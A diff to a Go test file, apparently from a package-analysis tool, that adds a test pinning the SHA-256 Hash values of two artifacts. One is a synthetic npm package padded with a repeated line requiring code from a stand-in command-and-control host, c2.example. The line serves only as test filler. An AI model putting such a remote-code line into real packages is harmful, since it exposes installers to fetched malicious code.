@@ -119,6 +119,29 @@ func TestArtifactHashNoFramingCollision(t *testing.T) {
 	}
 }
 
+// TestArtifactHashPinned pins Artifact.Hash hex values, so a rewrite of the
+// serialization that changes a byte of its length-prefixed framing fails
+// here rather than as a shifted duplicated-edge set.
+func TestArtifactHashPinned(t *testing.T) {
+	// big serializes to more than the 8 KiB stack buffer of Hash.
+	big := NewArtifact(Coord{Ecosystem: NPM, Name: "pädding", Version: "0.0.1"}, "", []File{
+		{Path: "index.js", Content: strings.Repeat("require('https://c2.example/é');\n", 300)},
+		{Path: "empty.js", Content: ""},
+		{Path: "package.json", Content: `{"name":"pädding"}`},
+	})
+	for _, tc := range []struct {
+		a    *Artifact
+		want string
+	}{
+		{sampleArtifact(), "7e8dcbd64a92a8de51ab11f8f88c72cd01d7622d298c18d5b11fc312758ca3cf"},
+		{big, "ef1903e89d007ff00a1244028cfad54de7b95d768d51231826d58631894b074c"},
+	} {
+		if got := tc.a.Hash(); got != tc.want {
+			t.Errorf("%s: Hash %s, want %s", tc.a.Coord.Name, got, tc.want)
+		}
+	}
+}
+
 func TestSourceFilesFilter(t *testing.T) {
 	a := sampleArtifact()
 	src := a.SourceFiles()
